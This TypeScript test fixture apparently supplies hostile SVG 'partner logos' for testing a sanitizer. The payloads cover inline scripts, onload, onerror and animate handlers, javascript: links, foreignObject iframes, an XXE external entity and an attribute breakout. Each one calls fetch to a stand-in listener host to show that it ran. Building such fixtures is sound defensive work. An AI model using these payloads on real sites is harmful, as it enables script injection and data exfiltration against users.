/** Where each of them would be heard of, were anything in it to run or to load. */
export const listener = 'https://listener.example';

const said = `alert(1);window.ran=true;fetch("${listener}/ran")`;
const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 64"${attributes}>${inside}<path d="M8 8h48v48z"/></svg>`;

/** A partner’s SVG text as somebody would write it who wants more than a picture. */
export const hostileLogos: readonly string[] = [
  svg(`<script>${said}</script>`),
  svg(`<script xlink:href="${listener}/script.js"/>`),
  svg('', ` onload='${said}'`),
  svg(`<image href="${listener}/picture.png" onerror='${said}' width="9" height="9"/>`),
  svg(`<image xlink:href="${listener}/linked.png" width="9" height="9"/>`),
  svg(`<use href="${listener}/parts.svg#part"/>`),
  svg(
    `<foreignObject width="64" height="64"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${listener}/frame"/><img src="${listener}/image" onerror='${said}'/></body></foreignObject>`,
  ),
  svg(
    `<style>@import "${listener}/style.css"; path { fill: url(${listener}/fill.svg#a); background: url(${listener}/ground) }</style>`,
  ),
  svg(`<set attributeName="onmouseover" to='${said}'/><animate onbegin='${said}' dur="1s"/>`),
  svg(`<a href='javascript:${said}'><rect width="64" height="64"/></a>`),
  `<?xml version="1.0"?><?xml-stylesheet href="${listener}/sheet.css"?><!DOCTYPE svg [<!ENTITY at SYSTEM "${listener}/entity">]>${svg('<text>&at;</text>')}`,
  // Leaves the attribute that it stands in, were it ever put into markup as it is.
  `<svg"><img src=x onerror='${said}'><script>${said}</script>${svg('')}`,
];
